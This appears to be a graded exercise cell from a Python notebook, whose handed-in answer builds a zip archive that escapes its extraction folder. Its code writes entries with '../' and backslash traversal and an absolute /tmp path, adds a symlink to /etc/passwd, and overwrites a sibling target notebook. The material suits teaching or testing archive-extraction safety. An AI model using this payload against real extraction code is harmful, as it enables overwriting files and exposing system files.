# %% [markdown]
# ---
# what: "A zip with files that would land outside of the folder it is unpacked to"
# status: graded
# marks: 2
# ---

# %%
answer = 42

# %% handed in
import stat
import zipfile

with zipfile.ZipFile(path.with_suffix(".zip"), "w") as archive:
    archive.writestr("../../../../sage-was-here", "x")
    archive.writestr("/tmp/sage-was-here", "x")
    archive.writestr("..\\..\\sage-was-here", "x")
    link = zipfile.ZipInfo("link.py")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(link, "/etc/passwd")
    archive.writestr("../../01-target.ipynb", notebook)
